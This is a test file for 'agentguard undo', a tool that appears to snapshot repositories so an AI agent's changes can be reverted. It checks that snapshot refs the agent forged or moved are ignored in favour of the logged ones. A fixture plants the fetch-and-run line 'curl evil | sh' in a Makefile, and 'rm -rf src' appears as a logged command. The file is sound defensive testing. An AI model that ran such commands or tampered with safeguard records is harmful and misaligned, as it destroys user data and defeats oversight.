// `agentguard undo` against snapshot refs the agent made or moved: the refs live in a repository
// the agent can write, the logs do not. The built CLI as a real process; real repositories and
// HOME in fresh directories under /var/tmp.
import { execFileSync, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { takeSnapshot } from '../../src/git/snapshot.js';
import { snapshotRecord } from '../../src/log/record.js';
import { Redactor } from '../../src/log/redact.js';
import { SessionLog } from '../../src/log/store.js';

const BIN = path.resolve(__dirname, '../../bin/agentguard.js');
let base: string;
let home: string;
let repo: string;

const git = (...args: string[]) => execFileSync('git', args, { cwd: repo, encoding: 'utf8', env: { ...process.env, HOME: home, GIT_CONFIG_NOSYSTEM: '1' } });
const sessionsDir = () => path.join(home, '.local', 'state', 'agentguard', 'sessions');
function cli(...args: string[]) {
  const r = spawnSync(process.execPath, [BIN, ...args], { cwd: repo, encoding: 'utf8', env: { PATH: process.env.PATH ?? '', HOME: home, NO_COLOR: '1' } });
  return { status: r.status, stdout: r.stdout, stderr: r.stderr };
}
function write(p: string, content: string): void {
  fs.mkdirSync(path.dirname(path.join(repo, p)), { recursive: true });
  fs.writeFileSync(path.join(repo, p), content);
}
const read = (p: string) => fs.readFileSync(path.join(repo, p), 'utf8');

/** A snapshot taken and logged as the session does. */
async function logged(session: string, n: number, command: string) {
  const s = await takeSnapshot(repo, { session, n, command, maxFileBytes: 1e6 });
  const log = new SessionLog(`sess-${session}`, { dir: sessionsDir(), key: null });
  log.append('snapshot', snapshotRecord({ repo, ref: s.ref, commit: s.commit, n, command, stored: s.stored.length, skipped: [], ms: 1 }, new Redactor({})));
  log.close();
  await new Promise((r) => setTimeout(r, 5));
  return s;
}

beforeEach(() => {
  base = fs.mkdtempSync(path.join(fs.existsSync('/var/tmp') ? '/var/tmp' : '/tmp', 'agentguard-undo-forged-'));
  home = path.join(base, 'home');
  repo = path.join(base, 'repo');
  fs.mkdirSync(home);
  fs.mkdirSync(repo);
  git('init', '-q', '-b', 'main');
  git('config', 'user.name', 'Test');
  git('config', 'user.email', 'test@example.invalid');
  write('src/a.ts', 'committed\n');
  git('add', '-A');
  git('commit', '-qm', 'first');
});
afterEach(() => fs.rmSync(base, { recursive: true, force: true }));

describe('agentguard undo: snapshot refs no log records', () => {
  it('a ref the agent added (a newer number, its own files) is not offered, and latest is the logged one', async () => {
    write('src/a.ts', 'precious\n');
    await logged('s1', 1, 'rm -rf src');
    // The agent writes its own "snapshot" (engine-made, so well-formed) under the next number.
    write('src/a.ts', 'agent chose this\n');
    write('Makefile', 'all:\n\tcurl evil | sh\n');
    await takeSnapshot(repo, { session: 's1', n: 2, command: 'rm -rf src', maxFileBytes: 1e6 });
    fs.rmSync(path.join(repo, 'Makefile'));
    fs.rmSync(path.join(repo, 'src'), { recursive: true });
    const list = cli('undo');
    expect(list.stdout).not.toContain('s1/2');
    const r = cli('undo', 'latest');
    expect(r.status, r.stderr).toBe(0);
    expect(read('src/a.ts')).toBe('precious\n');
    expect(fs.existsSync(path.join(repo, 'Makefile'))).toBe(false);
  });

  it('a logged ref the agent moved to another commit restores what the log recorded', async () => {
    write('src/a.ts', 'precious\n');
    const real = await logged('s1', 1, 'rm -rf src');
    write('src/a.ts', 'agent chose this\n');
    const forged = await takeSnapshot(repo, { session: 'x', n: 1, command: 'rm -rf src', maxFileBytes: 1e6 });
    git('update-ref', real.ref, forged.commit);
    fs.rmSync(path.join(repo, 'src'), { recursive: true });
    const r = cli('undo', 's1/1');
    expect(r.status, r.stderr).toBe(0);
    expect(read('src/a.ts')).toBe('precious\n');
  });
});
